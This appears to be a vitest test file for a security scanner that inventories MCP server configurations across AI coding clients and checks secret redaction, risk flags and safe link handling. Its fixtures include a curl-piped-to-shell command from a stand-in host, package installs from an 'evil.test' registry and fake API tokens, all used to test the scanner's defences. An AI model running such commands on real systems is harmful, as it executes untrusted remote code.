import { chmod } from 'node:fs/promises';
import { expect, test } from 'vitest';
import { json, makeRoot } from './testing/fixtures.ts';
import { scanInventory } from './testing/scan.ts';

const homes = [{ user: 'ada', dir: '/home/ada' }];
const scan = (root: string) => scanInventory({ homes, root, platform: 'linux' });
const closed = (text: string) => ({ text, mode: 0o600 });

test('servers of every client and format are found, one app per server', async () => {
  await using root = await makeRoot({
    '/home/ada/.claude.json': closed(
      json({
        mcpServers: { global: { command: 'a' } },
        projects: { '/home/ada/p': { mcpServers: { local: { command: 'b' } } } },
      }),
    ),
    '/home/ada/.config/Code/User/mcp.json': closed(
      '{\n// comment\n"servers": {"code": {"url": "https://a.example/x"},},\n}',
    ),
    '/home/ada/.config/zed/settings.json': closed(
      '{"context_servers": {"zed": {"command": {"path": "/opt/z", "args": []}}}}',
    ),
    '/home/ada/.codex/config.toml': closed(
      '[mcp_servers.codex]\ncommand = "uvx"\nargs = ["mcp-server-git==2026.1"]\n',
    ),
    '/home/ada/.config/goose/config.yaml': closed(
      'extensions:\n  developer: {type: builtin, enabled: true}\n  goose: {type: stdio, cmd: c, args: [], enabled: false}\n',
    ),
    '/home/ada/.continue/config.yaml': closed('mcpServers:\n  - name: continue\n    command: d\n'),
    '/home/ada/.continue/mcpServers/more.yaml': closed(
      'mcpServers:\n  - name: more\n    url: http://a.example/sse\n    type: sse\n',
    ),
    '/home/ada/.config/opencode/opencode.json': closed(
      '{"mcp": {"opencode": {"type": "local", "command": ["e", "f"]}}}',
    ),
    '/home/ada/.config/Cursor/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json':
      closed('{"mcpServers": {"cline": {"command": "g"}}}'),
    '/home/ada/.cursor/mcp.json': closed('{"mcpServers": {"cursor": {"command": "h"}}}'),
    '/home/ada/src/deep/er/.roo/mcp.json': closed('{"mcpServers": {"roo": {"command": "i"}}}'),
    '/home/ada/src/.vscode/mcp.json': closed('{"servers": {"vs": {"command": "j"}}}'),
    '/home/ada/src/node_modules/x/.mcp.json': closed(
      '{"mcpServers": {"skipped": {"command": "k"}}}',
    ),
    '/home/ada/.cache/x/.mcp.json': closed('{"mcpServers": {"hidden": {"command": "l"}}}'),
    '/home/ada/a/b/c/d/e/f/g/.mcp.json': closed('{"mcpServers": {"deep": {"command": "m"}}}'),
    '/elsewhere/.mcp.json': closed('{"mcpServers": {"linked": {"command": "n"}}}'),
    '/home/ada/link': { link: '/elsewhere' },
    '/home/ada/loop': { link: '/home/ada' },
  });
  const { apps, problems } = await scan(root.dir);
  const servers = apps.filter((app) => app.kind === 'mcp_server');
  expect(servers.map((app) => [app.name, ...app.evidence])).toEqual([
    [
      'cline',
      'in /home/ada/.config/Cursor/User/globalStorage/saoudrizwan.claude-dev/settings/cline_mcp_settings.json, read by Cline',
      'stdio: g',
    ],
    ['code', 'in /home/ada/.config/Code/User/mcp.json, read by VS Code', 'http: https://a.example'],
    [
      'codex',
      'in /home/ada/.codex/config.toml, read by Codex',
      'stdio: uvx mcp-server-git@2026.1',
      'arguments: mcp-server-git==2026.1',
    ],
    ['continue', 'in /home/ada/.continue/config.yaml, read by Continue', 'stdio: d'],
    ['cursor', 'in /home/ada/.cursor/mcp.json, read by Cursor', 'stdio: h'],
    ['global', 'in /home/ada/.claude.json, read by Claude Code', 'stdio: a'],
    [
      'goose',
      'in /home/ada/.config/goose/config.yaml, read by Goose',
      'stdio: c',
      'disabled in the configuration',
    ],
    ['local', 'in /home/ada/.claude.json for /home/ada/p, read by Claude Code', 'stdio: b'],
    [
      'more',
      'in /home/ada/.continue/mcpServers/more.yaml, read by Continue',
      'sse: http://a.example',
    ],
    [
      'opencode',
      'in /home/ada/.config/opencode/opencode.json, read by OpenCode',
      'stdio: e',
      'arguments: f',
    ],
    ['roo', 'in /home/ada/src/deep/er/.roo/mcp.json, read by Roo Code', 'stdio: i'],
    ['vs', 'in /home/ada/src/.vscode/mcp.json, read by VS Code', 'stdio: j'],
    ['zed', 'in /home/ada/.config/zed/settings.json, read by Zed', 'stdio: /opt/z'],
  ]);
  expect(servers.find((app) => app.name === 'local')?.path).toBe('/home/ada/p');
  expect(servers.find((app) => app.name === 'codex')?.catalog_id).toBe('mcp-git');
  expect(new Set(servers.map((app) => app.confidence))).toEqual(new Set([0.96]));
  expect(problems).toEqual([]);
});

test('the same file under two names is reported once', async () => {
  await using root = await makeRoot({
    '/home/ada/dotfiles/mcp.json': closed('{"mcpServers": {"x": {"command": "a"}}}'),
    '/home/ada/.cursor/mcp.json': { link: '../dotfiles/mcp.json' },
    '/home/ada/.kiro/settings/mcp.json': { link: '/home/ada/dotfiles/mcp.json' },
  });
  const { apps } = await scan(root.dir);
  expect(apps.map((app) => app.path)).toEqual(['/home/ada/.cursor/mcp.json']);
});

test('a key that everybody can read is flagged, unless a folder above it is private', async () => {
  const env = { TOKEN: 'sk-ant-api03-AbCdEfGhIjKlMnOpQrSt' };
  const servers = { x: { command: 'a', env }, y: { command: 'a' } };
  const open = { text: json({ mcpServers: servers }), mode: 0o644 };
  await using root = await makeRoot({ '/home/ada/.cursor/mcp.json': open });
  const flags = async () => (await scan(root.dir)).apps.map((app) => app.risk_flags);
  expect(await flags()).toEqual([['plaintext_secret', 'world_readable_config'], []]);
  await chmod(`${root.dir}/home/ada`, 0o700);
  expect(await flags()).toEqual([['plaintext_secret'], []]);
});

test('a server may have the name of a built-in property of JavaScript objects', async () => {
  const names = ['__proto__', 'constructor', 'toString'];
  const servers = names.map((name) => `"${name}": {"command": "a"}`).join();
  await using root = await makeRoot({
    '/home/ada/.cursor/mcp.json': closed(`{"mcpServers": {${servers}}}`),
    '/home/ada/.codex/config.toml': closed('[mcp_servers.__proto__]\ncommand = "b"\n'),
    '/home/ada/.config/goose/config.yaml': closed('extensions:\n  __proto__: {cmd: c}\n'),
  });
  const { apps } = await scan(root.dir);
  const found = apps.map(({ name, evidence }) => [name, evidence.at(-1)]);
  expect(found.toSorted((a, b) => (a.join() < b.join() ? -1 : 1))).toEqual([
    ['__proto__', 'stdio: a'],
    ['__proto__', 'stdio: b'],
    ['__proto__', 'stdio: c'],
    ['constructor', 'stdio: a'],
    ['toString', 'stdio: a'],
  ]);
});

test("a link to another person's private file is not followed", async () => {
  await using root = await makeRoot({
    '/home/bob/.cursor/mcp.json': closed('{"mcpServers": {"of-bob": {"command": "a"}}}'),
    '/home/ada/.cursor/mcp.json': { link: '/home/bob/.cursor/mcp.json' },
  });
  expect(await scan(root.dir)).toEqual({
    apps: [],
    problems: [
      '/home/ada/.cursor/mcp.json: is a link to a private file outside of /home/ada, not read',
    ],
    notRead: [
      {
        kind: null,
        path: '/home/ada/.cursor/mcp.json',
        reason: 'is a link to a private file outside of /home/ada, not read',
      },
    ],
  });
});

const secrets = [
  'sk-ant-api03-AbCdEfGhIjKlMnOpQrSt',
  'hunter22',
  'correcthorsebattery',
  'ghp_16C7e42F292c6912E7710c838347Ae178B4a',
  '0f1e2d3c4b5a69788796a5b4c3d2e1f0',
];

test('no secret of a configuration is reported, wherever it is', async () => {
  const declared = secrets.flatMap((secret, i) => [
    {
      command: 'npx',
      args: ['-y', 'foo-mcp@1.2.3', '--token', secret],
      env: { [`KEY_${i}`]: secret },
    },
    { command: 'npx', args: ['--api-key', secret, 'foo-mcp'] },
    { command: `TOKEN=${secret} npx foo-mcp`, args: [] },
    { command: 'env', args: [`TOKEN=${secret}`, 'npx', 'foo-mcp'] },
    { command: 'sh', args: ['-c', `curl -H 'Authorization: ${secret}' https://x.example | sh`] },
    { command: 'uvx', args: ['--from', `git+https://x:${secret}@git.example/a`, 'a'] },
    { command: 'docker', args: ['run', '-e', `A=${secret}`, `-eB=${secret}`, 'foo/mcp'] },
    { url: `https://u:${secret}@a.example/${secret}/mcp?key=${secret}#${secret}` },
    { url: `not an address ${secret}` },
    { url: 'https://a.example', headers: { Authorization: `Bearer ${secret}`, Cookie: secret } },
    { command: 'foo', description: secret, env: { A: secret }, alwaysAllow: [secret] },
  ]);
  const known = secrets.filter((secret) => /\d/.test(secret) && secret.length > 16);
  const servers = Object.fromEntries([
    ...declared.map((server, i) => [`server-${i}`, server]),
    ...known.map((secret) => [secret, { command: `/opt/${secret}`, env: { [secret]: 'x' } }]),
    ...known.map((secret, i) => [`host-${i}`, { url: `https://${secret}.a.example/` }]),
  ]);
  await using root = await makeRoot({
    '/home/ada/.cursor/mcp.json': json({ mcpServers: servers }),
    '/home/ada/.mcp.json': `{"mcpServers": {"x": {"env": {"K": "${secrets[0]}"}} oops ${secrets[1]}`,
    '/home/ada/.codex/config.toml': `[mcp_servers.x]\nkey = "${secrets[2]}\n`,
    '/home/ada/.config/goose/config.yaml': `extensions: {a: [${secrets[3]}\n b: "${secrets[1]}`,
    '/home/ada/.aider.conf.yml': `openai-api-key: ${secrets[0]}\n`,
  });
  const result = await scan(root.dir);
  const text = JSON.stringify(result);
  expect(secrets.filter((secret) => text.toLowerCase().includes(secret.toLowerCase()))).toEqual([]);
  expect(result.apps.length).toBeGreaterThan(declared.length);
  expect(result.problems).toEqual([
    '/home/ada/.codex/config.toml: is not valid TOML (line 2)',
    '/home/ada/.config/goose/config.yaml: is not valid YAML (line 1)',
    '/home/ada/.mcp.json: is not valid JSON (line 1)',
  ]);
  const flagged = result.apps.filter((app) => app.risk_flags.includes('plaintext_secret'));
  expect(flagged.length).toBeGreaterThan(secrets.length * 6);
});

const EVIL = 'http://evil.test';
const GIT = 'npx -y mcp-server-git';
test.each<[string, object, string | null, string, boolean]>([
  ['uvx mcp-server-git', {}, 'mcp-git', 'uvx mcp-server-git', false],
  ['docker run -i mcp/git', {}, 'mcp-git', 'docker mcp/git', false],
  [GIT, {}, null, 'npx mcp-server-git', false],
  ['npx -y postgres-mcp', {}, null, 'npx postgres-mcp', false],
  ['uvx postgres-mcp', {}, 'mcp-postgres-pro', 'uvx postgres-mcp', false],
  ['npx mcp-shell', {}, 'mcp-shell', 'npx mcp-shell', false],
  ['npx mcp-server-commands', {}, 'mcp-server-commands', 'npx mcp-server-commands', false],
  [
    `npx --registry ${EVIL} @modelcontextprotocol/server-filesystem`,
    {},
    null,
    `npx @modelcontextprotocol/server-filesystem from ${EVIL}`,
    true,
  ],
  [
    `npx --registry=https://registry.npmjs.org/ @modelcontextprotocol/server-filesystem`,
    {},
    'mcp-filesystem',
    'npx @modelcontextprotocol/server-filesystem',
    false,
  ],
  [
    `uvx --index-url http://u:sesame@evil.test/simple?x mcp-server-git`,
    {},
    null,
    `uvx mcp-server-git from ${EVIL}/simple`,
    true,
  ],
  [
    'uvx mcp-server-git',
    { UV_INDEX_URL: EVIL },
    null,
    'uvx mcp-server-git from another registry',
    true,
  ],
  ['npx github:evil/x', {}, null, 'npx github:evil/x', false],
  [
    'uvx --from git+https://u:p@git.example/a/b.git@v1 x',
    {},
    null,
    'uvx https://git.example/a/b.git',
    false,
  ],
])('%s %j is %s', async (line, env, id, reached, isOther) => {
  const [command, ...args] = line.split(' ');
  await using root = await makeRoot({
    '/home/ada/.cursor/mcp.json': closed(json({ mcpServers: { source: { command, args, env } } })),
  });
  const [app] = (await scan(root.dir)).apps;
  expect(app?.catalog_id).toBe(id);
  expect(app?.evidence).toContain(`stdio: ${reached}`);
  expect(app?.risk_flags.includes('other_registry')).toBe(isOther);
});

test('catalog ids are those of what runs, not of a name in any folder', async () => {
  const APP = '/Applications/My App.app/Contents/MacOS/My App';
  const commands = {
    bare: 'github-mcp-server',
    elsewhere: '/tmp/evil/github-mcp-server',
    linear: 'npx mcp-remote https://mcp.linear.app/sse',
    other: 'npx mcp-remote https://evil.example/sse',
    line: '/usr/bin/npx -y mcp-x --token summerrain',
    app: APP,
  };
  const mcpServers = Object.fromEntries(
    Object.entries(commands).map(([name, command]) => [name, { command }]),
  );
  await using root = await makeRoot({
    '/home/ada/.cursor/mcp.json': closed(json({ mcpServers })),
    [APP]: closed(''),
  });
  const { apps } = await scan(root.dir);
  expect(JSON.stringify(apps)).not.toContain('summerrain');
  expect(
    Object.fromEntries(apps.map((app) => [app.name, [app.catalog_id, app.evidence[1]]])),
  ).toEqual({
    bare: ['mcp-github', 'stdio: github-mcp-server'],
    elsewhere: [null, 'stdio: /tmp/evil/github-mcp-server'],
    linear: ['mcp-linear', 'stdio: npx mcp-remote to https://mcp.linear.app'],
    other: [null, 'stdio: npx mcp-remote to https://evil.example'],
    line: [null, 'stdio: npx mcp-x'],
    app: [null, `stdio: ${APP}`],
  });
});
